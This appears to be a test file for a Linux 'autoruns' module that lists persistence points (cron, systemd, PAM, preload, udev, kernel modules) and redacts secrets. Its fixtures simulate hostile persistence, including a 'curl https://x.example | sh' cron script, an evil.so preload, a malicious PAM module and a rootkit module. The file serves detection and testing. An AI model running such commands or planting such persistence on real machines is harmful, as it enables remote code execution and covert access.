/** `autoruns` on machines made for it: what it finds on Linux, and what it never tells. */
import { chownSync, chmodSync, utimesSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { autoruns } from '../../agent-modules/autoruns/index.ts'
import { ask, createStartMachine, shortly } from './autoruns-machine.ts'

const isRoot = process.getuid?.() === 0
const PASSWD =
  'root:x:0:0:root:/root:/bin/sh\nalice:x:4711:4711::/home/alice:/bin/sh\nbob:x:4712:4712::/nonexistent:/bin/sh\n'

describe('cron', () => {
  it('tells programs, schedules and users of crontabs, and never an argument', async () => {
    using machine = createStartMachine({
      files: {
        '/etc/debian_version': '12\n',
        '/etc/crontab':
          'PATH=/opt/bin:/usr/bin\nTOKEN=hunter2\n# 1 2 3 4 5 root /usr/bin/comment\n*/5 1-3 * * mon,tue root cd / && API_KEY=hunter2 backup --password hunter2 > /srv/hunter2\n',
        '/etc/cron.d/job': '@reboot  alice /usr/bin/python3 -u /opt/script.py hunter2\n',
        '/etc/cron.d/job.bak': '0 0 * * * root /usr/bin/old\n',
        '/var/spool/cron/crontabs/bob':
          '0 4 * * * /bin/sh -c "nice -n 5 /opt/bin/backup hunter2" %hunter2 /usr/bin/stdin\n5 4 * * * $HOME/hunter2\n',
        '/opt/script.py': 'x',
      },
      programs755: [
        '/opt/bin/backup',
        '/bin/sh',
        '/usr/bin/nice',
        '/usr/bin/python3',
        '/etc/cron.daily/clean',
      ],
    })
    const { entries } = await ask(machine, { kinds: ['cron'] })
    expect(
      entries.map((each) => [
        each.name,
        each.line,
        each.executable?.path,
        each.schedule,
        each.user,
        each.enabled,
      ]),
    ).toEqual([
      ['crontab', 4, '/opt/bin/backup', '*/5 1-3 * * mon,tue', 'root', true],
      ['job', 1, '/usr/bin/python3', '@reboot', 'alice', true],
      ['job', 1, '/opt/script.py', '@reboot', 'alice', true],
      ['job.bak', 1, '/usr/bin/old', '0 0 * * *', 'root', false],
      ['bob', 1, '/bin/sh', '0 4 * * *', 'bob', true],
      ['bob', 1, '/usr/bin/nice', '0 4 * * *', 'bob', true],
      ['bob', 1, '/opt/bin/backup', '0 4 * * *', 'bob', true],
      ['bob', 2, undefined, '5 4 * * *', 'bob', true],
      ['clean', undefined, undefined, '@daily', 'root', true],
    ])
    expect(JSON.stringify(entries)).not.toContain('hunter2')
  })

  it('reads anacron, and when a job of at runs but not what it holds', async () => {
    using machine = createStartMachine({
      files: {
        '/etc/anacrontab':
          'SHELL=/bin/sh\n7 10 weekly-job /opt/weekly hunter2\n@monthly 45 m run\n',
        '/var/spool/cron/atjobs/a0000101c9d0f0': 'SECRET=hunter2\n/opt/at\n',
        '/var/spool/cron/atjobs/.SEQ': '1',
      },
    })
    const { entries } = await ask(machine, { kinds: ['cron', 'at'] })
    expect(
      entries.map(({ name, schedule, executable }) => [name, schedule, executable?.path]),
    ).toEqual([
      ['weekly-job', '7d', '/opt/weekly'],
      ['m', '@monthly', undefined],
      ['a0000101c9d0f0', new Date(0x01c9d0f0 * 60_000).toISOString(), undefined],
    ])
  })
})

describe('systemd', () => {
  it('tells the program of each unit, of its drop-ins, and of what sets it off', async () => {
    using machine = createStartMachine({
      files: {
        '/usr/lib/systemd/system/a.service':
          '[Unit]\nWants=pulled.service\n[Service]\nUser=alice\nExecStart=/opt/first\nExecStartPre=-@/opt/pre arg0 hunter2\nEnvironment="X=hunter2" LD_PRELOAD=/opt/evil.so\n[Install]\nWantedBy=multi-user.target\n',
        '/etc/systemd/system/a.service.d/override.conf':
          '[Service]\nExecStart=\nExecStart=/bin/sh -c \\\n  "/opt/second hunter2"\n',
        '/etc/systemd/system/a.timer': '[Timer]\nOnCalendar=Mon *-*-* 04:00:00\nOnBootSec=5min\n',
        '/etc/systemd/system/off.service':
          '[Service]\nExecStart=/opt/%i/off\n[Install]\nWantedBy=x.target\n',
        '/usr/lib/systemd/system/pulled.service': '[Service]\nExecStart=/opt/pulled\n',
        '/home/alice/.config/systemd/user/mine.service':
          '[Service]\nExecStart=/home/alice/.x/run\n',
        '/etc/passwd': PASSWD,
      },
      links: {
        '/etc/systemd/system/multi-user.target.wants/a.service':
          '/usr/lib/systemd/system/a.service',
        '/etc/systemd/system/masked.service': '/dev/null',
      },
      programs755: ['/bin/sh', '/opt/second', '/opt/pre', '/opt/pulled', '/home/alice/.x/run'],
    })
    const { entries } = await ask(machine, { kinds: ['service', 'timer', 'preload'] })
    expect(
      entries.map((each) => [
        shortly([each])[0],
        each.definition.path.replace(/.*systemd\//, ''),
        each.state,
        each.enabled,
        each.user,
      ]),
    ).toEqual([
      ['timer a.timer /opt/pre', 'system/a.timer', 'static', false, 'alice'],
      ['timer a.timer /bin/sh', 'system/a.timer', 'static', false, 'alice'],
      ['timer a.timer /opt/second', 'system/a.timer', 'static', false, 'alice'],
      ['service masked.service', 'system/masked.service', 'masked', false, 'root'],
      ['service off.service /opt/%i/off', 'system/off.service', 'disabled', false, 'root'],
      ['service a.service /opt/pre', 'system/a.service', 'enabled', true, 'alice'],
      ['service a.service /bin/sh', 'system/a.service.d/override.conf', 'enabled', true, 'alice'],
      [
        'service a.service /opt/second',
        'system/a.service.d/override.conf',
        'enabled',
        true,
        'alice',
      ],
      ['preload a.service /opt/evil.so', 'system/a.service', 'enabled', true, 'alice'],
      ['service pulled.service /opt/pulled', 'system/pulled.service', 'static', undefined, 'root'],
      ['service mine.service /home/alice/.x/run', 'user/mine.service', 'static', false, 'alice'],
    ])
    expect(entries[0]?.schedule).toBe('Mon *-*-* 04:00:00; OnBootSec=5min')
    expect(JSON.stringify(entries)).not.toContain('hunter2')
    expect(entries.find(({ name }) => name === 'off.service')?.executable?.flags).toEqual([])
  })
})

describe('enabled', () => {
  it('leaves out what is known not to start by itself', async () => {
    const unit = '[Service]\nExecStart=/opt/x\n'
    using machine = createStartMachine({
      files: {
        '/usr/lib/systemd/system/wanted.service': unit,
        '/usr/lib/systemd/system/alone.service': unit,
        '/usr/lib/systemd/system/pulled.service': unit,
        '/usr/lib/systemd/system/timed.service': unit,
        '/usr/lib/systemd/system/puller.service': `[Unit]\nRequires=pulled.service\n${unit}`,
        '/usr/lib/systemd/system/clock.timer':
          '[Timer]\nOnBootSec=1\nUnit=timed.service\n[Install]\nWantedBy=timers.target\n',
      },
      links: {
        '/usr/lib/systemd/system/basic.target.wants/wanted.service': '../wanted.service',
        '/etc/systemd/system/timers.target.wants/clock.timer':
          '/usr/lib/systemd/system/clock.timer',
      },
    })
    const { entries } = await ask(machine, { enabled: true })
    expect(Object.fromEntries(entries.map(({ name, enabled }) => [name, enabled]))).toStrictEqual({
      'wanted.service': true,
      'pulled.service': undefined,
      'timed.service': true,
      'clock.timer': true,
    })
  })
})

describe('the other kinds', () => {
  it('finds one of each', async () => {
    using machine = createStartMachine({
      files: {
        '/etc/passwd': PASSWD,
        '/etc/inittab': '# c\n1:2345:respawn:/sbin/getty 38400\n::sysinit:/opt/sysinit hunter2\n',
        '/etc/profile.d/x.sh': 'export LD_PRELOAD="/opt/p.so:/opt/q.so"\nTOKEN=hunter2\n',
        '/home/alice/.bashrc': 'x',
        '/home/alice/.ssh/rc': 'x',
        '/home/alice/.config/autostart/a.desktop':
          '[Desktop Entry]\nExec=/opt/desk --key hunter2 %U\nHidden=true\n',
        '/etc/ld.so.preload': '/opt/all.so # c\n',
        '/etc/environment': 'LD_AUDIT=/opt/audit.so\nPASSWORD=hunter2\n',
        '/etc/udev/rules.d/9.rules':
          'ACTION=="add", RUN+="/opt/udev hunter2", PROGRAM="helper x"\n# RUN+="/opt/no"\n',
        '/etc/pam.d/sshd':
          'auth required pam_unix.so\nauth [default=ignore] /opt/pam_evil.so key=hunter2\nsession optional pam_exec.so quiet /opt/exec hunter2\n',
        '/usr/lib/x86_64-linux-gnu/security/pam_unix.so': 'x',
        '/usr/lib/x86_64-linux-gnu/security/pam_exec.so': 'x',
        '/etc/ssh/sshd_config':
          'ForceCommand "/opt/force hunter2"\nSubsystem sftp /usr/lib/sftp-server\n#AuthorizedKeysCommand /opt/no\n',
        '/etc/apt/apt.conf.d/5x':
          '// Pre-Invoke {"/opt/no"};\nAPT::Update::Pre-Invoke {"/opt/apt1 hunter2"; "/opt/apt2";};\nDPkg::Post-Invoke:: "/opt/apt3";\n',
        '/etc/dpkg/dpkg.cfg.d/x': 'post-invoke="/opt/dpkg hunter2"\n',
        '/usr/share/libalpm/hooks/x.hook': '[Action]\nWhen = PostTransaction\nExec = /opt/alpm\n',
        '/usr/share/dbus-1/system-services/org.x.service':
          '[D-BUS Service]\nName=org.x\nExec=/opt/bus hunter2\nUser=root\n',
        '/usr/lib/binfmt.d/x.conf': ':x:M::abc::/opt/interpreter:\n',
        '/proc/sys/kernel/osrelease': '6.1.0-1\n',
        '/lib/modules/6.1.0-1/modules.dep': 'kernel/good-one.ko.xz: kernel/x.ko\n',
        '/proc/modules':
          'good_one 16384 0 - Live 0x0000000000000000\nrootkit 16384 0 - Live 0x0000000000000000 (OE)\n',
        '/etc/modules-load.d/m.conf': '# c\ngood-one\n',
        '/etc/modprobe.d/m.conf': 'install usb /opt/install hunter2\n',
      },
      programs755: [
        ...['/etc/init.d/svc', '/etc/rc.local', '/opt/exec', '/usr/lib/udev/helper'],
        ...['/etc/update-motd.d/10-x', '/etc/update-motd.d/10-x.dpkg-old'],
        ...['/etc/NetworkManager/dispatcher.d/n', '/etc/initramfs-tools/hooks/h'],
        ...['/usr/lib/systemd/system-sleep/s', '/etc/systemd/system-generators/g'],
      ],
      links: { '/etc/rc2.d/S01svc': '../init.d/svc' },
    })
    const { entries, errors } = await ask(machine)
    expect(shortly(entries).toSorted()).toEqual(
      [
        ...['init rc.local', 'init svc', 'init 1 /sbin/getty', 'init sysinit /opt/sysinit'],
        ...[
          'generator g',
          'motd 10-x',
          'motd 10-x.dpkg-old',
          'boot-hook h',
          'network-hook n',
          'power-hook s',
        ],
        ...['profile x.sh', 'preload x.sh /opt/p.so', 'preload x.sh /opt/q.so', 'profile .bashrc'],
        ...['autostart a.desktop /opt/desk', 'ssh rc', 'ssh ForceCommand /opt/force'],
        ...['ssh Subsystem sftp /usr/lib/sftp-server', 'preload ld.so.preload /opt/all.so'],
        ...['preload environment /opt/audit.so', 'udev 9.rules /opt/udev'],
        ...['udev 9.rules /usr/lib/udev/helper', 'pam sshd /opt/pam_evil.so', 'pam sshd /opt/exec'],
        'pam sshd /usr/lib/x86_64-linux-gnu/security/pam_unix.so',
        'pam sshd /usr/lib/x86_64-linux-gnu/security/pam_exec.so',
        ...['package-hook Pre-Invoke /opt/apt1', 'package-hook Pre-Invoke /opt/apt2'],
        ...['package-hook Post-Invoke /opt/apt3', 'package-hook post-invoke /opt/dpkg'],
        ...[
          'package-hook PostTransaction /opt/alpm',
          'dbus org.x /opt/bus',
          'binfmt x /opt/interpreter',
        ],
        ...[
          'kernel-module good_one /lib/modules/6.1.0-1/kernel/good-one.ko.xz',
          'kernel-module rootkit',
        ],
        'kernel-module good-one /lib/modules/6.1.0-1/kernel/good-one.ko.xz',
        'kernel-module usb /opt/install',
      ].toSorted(),
    )
    const states = new Map(entries.map((each) => [each.name, each]))
    expect(states.get('rootkit')?.state).toBe('loaded:OE')
    expect(states.get('svc')?.enabled).toBe(true)
    expect(states.get('a.desktop')?.enabled).toBe(false)
    expect(states.get('10-x.dpkg-old')?.enabled).toBe(false)
    expect(JSON.stringify({ entries, errors })).not.toContain('hunter2')
  })
})

describe('filters and flags', () => {
  const files = {
    '/etc/passwd': PASSWD,
    '/etc/group': 'root:x:0:\nstaff:x:50:\nadmins:x:60:alice\n',
    '/etc/cron.d/a': '@daily root /opt/a\n',
    '/etc/cron.d/b': '@daily root /tmp/b\n',
    '/etc/cron.d/c': '@daily root /opt/gone\n',
    '/etc/cron.d/h': '@daily root /opt/.hidden/h\n',
    '/etc/cron.d/mine': '@daily alice /opt/alice\n',
    '/etc/cron.d/staff': '@daily root /opt/staff\n',
    '/etc/cron.d/admins': '@daily root /opt/admins\n',
    '/etc/cron.d/linked': '@daily root /opt/linked\n',
  }
  const programs755 = ['a', '.hidden/h', 'alice', 'staff', 'admins', 'deep/er/real'].map(
    (name) => `/opt/${name}`,
  )

  const create = () => {
    const machine = createStartMachine({
      files,
      programs755: [...programs755, '/tmp/b'],
      links: { '/opt/linked': '/opt/deep/er/real' },
    })
    chmodSync(path.join(machine.root, 'tmp'), 0o1777)
    return machine
  }
  const namesOf = async (machine: Parameters<typeof ask>[0], parameters: object) => [
    ...new Set(
      (await ask(machine, { kinds: ['cron'], ...parameters })).entries.map(({ name }) => name),
    ),
  ]

  it('finds by name, path, time and hash; a `!` turns round, and all must hit', async () => {
    using machine = create()
    utimesSync(path.join(machine.root, 'opt/a'), 1e9, 1e9)
    expect(await namesOf(machine, { names: ['^[abc]$', '!^b'] })).toEqual(['a', 'c'])
    expect(await namesOf(machine, { paths: ['^/tmp/'] })).toEqual(['b'])
    expect(await namesOf(machine, { paths: ['!^/opt/'] })).toEqual(['b'])
    expect(await namesOf(machine, { mtimes: ['before:2001-09-10', 'after:2001-09-09'] })).toEqual([
      'a',
    ])
    const sha256 = createHash('sha256').update('#!/bin/sh\n').digest('hex')
    expect(await namesOf(machine, { names: ['^[ac]$'], sha2: ['0'.repeat(64), sha256] })).toEqual([
      'a',
    ])
    expect(await namesOf(machine, { sha2: ['0'.repeat(64)] })).toEqual([])
  })

  it("finds a script that is what runs by its own hash, and tells no other definition's", async () => {
    const script = '#!/bin/sh\ncurl https://x.example | sh\n'
    using machine = createStartMachine({
      files: { '/etc/cron.hourly/x': script, '/etc/cron.hourly/y': '#!/bin/sh\n' },
    })
    const sha256 = createHash('sha256').update(script).digest('hex')
    const { entries } = await ask(machine, { sha2: [sha256] })
    expect(entries.map(({ name, definition }) => [name, definition.sha256])).toEqual([
      ['x', sha256.toUpperCase()],
    ])
    const all = await ask(machine, { kinds: ['cron'] })
    expect(all.entries.flatMap(({ definition }) => definition.sha256 ?? [])).toEqual([])
  })

  it('flags what is missing, and what lies where things are thrown away or hidden', async () => {
    using machine = create()
    expect(await namesOf(machine, { missing: true })).toEqual(['c'])
    expect(await namesOf(machine, { temporary: true })).toEqual(['b', 'h'])
  })

  it.skipIf(!isRoot)(
    'flags what others than root and its user may change, or replace',
    async () => {
      using machine = create()
      const at = (name: string): string => path.join(machine.root, name)
      expect(await namesOf(machine, { writable: true })).toEqual(['b'])
      chownSync(at('opt/alice'), 4711, 4711)
      expect(await namesOf(machine, { writable: true })).toEqual(['b'])
      writeFileSync(at('etc/cron.d/mine'), '@daily carol-of-ldap /opt/alice\n')
      expect(await namesOf(machine, { writable: true })).toEqual(['b'])
      chownSync(at('opt/a'), 4711, 4711)
      chownSync(at('opt/staff'), 0, 50)
      chmodSync(at('opt/staff'), 0o775)
      chownSync(at('opt/admins'), 0, 60)
      chmodSync(at('opt/admins'), 0o775)
      expect(await namesOf(machine, { writable: true })).toEqual(['a', 'admins', 'b'])
      chownSync(at('opt/deep'), 4712, 0)
      expect(await namesOf(machine, { writable: true })).toEqual(['a', 'admins', 'b', 'linked'])
    },
  )

  it('tells hashes of programs, of definitions only when asked, and none when told so', async () => {
    using machine = create()
    const hashes = async (hash?: string) => {
      const { entries } = await ask(machine, { names: ['^a$'], ...(hash && { hash }) })
      return entries.map((each) => [
        each.definition.sha256?.length,
        each.executable?.sha256?.length,
      ])
    }
    expect(await hashes()).toEqual([[undefined, 64]])
    expect(await hashes('all')).toEqual([[64, 64]])
    expect(await hashes('none')).toEqual([[undefined, undefined]])
  })

  it('tells a library whose path no answer can hold, cut', async () => {
    const library = `/${'a/'.repeat(10_000)}x.so`
    using machine = createStartMachine({
      files: { '/etc/ld.so.preload': `${library}\n/opt/x.so\n` },
    })
    const { entries, errors } = await ask(machine, { kinds: ['preload'] })
    expect(entries.map(({ executable }) => [executable?.path, executable?.flags])).toEqual([
      [`${library.slice(0, 16_381)}...`, ['missing']],
      ['/opt/x.so', ['missing']],
    ])
    expect(errors.filter((message) => !message.includes('package manager'))).toEqual([])
  })

  it('stops at the limit, and says so', async () => {
    using machine = create()
    const { entries, errors } = await ask(machine, { kinds: ['cron'], matchlimit: 2 })
    expect(entries).toHaveLength(2)
    expect(errors).toContain('stopped at the limit of 2 entries, there may be more')
  })
})

describe('platforms', () => {
  it('does not answer where it has no answer', async () => {
    using machine = createStartMachine({ platform: 'freebsd' })
    await expect(ask(machine)).rejects.toThrow(/unsupported on this platform \(freebsd\)/)
  })
})

describe('the screen', () => {
  it('says on one line what starts, from where, and what is wrong with it', () => {
    const entry = {
      kind: 'cron',
      name: 'x\x1b[2J',
      definition: { path: '/etc/cron.d/x', flags: ['unowned'] },
      line: 3,
      executable: { path: '/tmp/x', owner: 'alice', flags: ['writable', 'temporary'] },
      schedule: '@daily',
      user: 'root',
      enabled: true,
    }
    expect(autoruns.lines({ elements: { entries: [entry] } }, { foundOnly: true })).toEqual([
      "cron 'x\\x1b[2J' in /etc/cron.d/x:3 [UNOWNED] starts /tmp/x [owner:alice, WRITABLE, TEMPORARY], as root, at '@daily', starts by itself",
    ])
  })
})
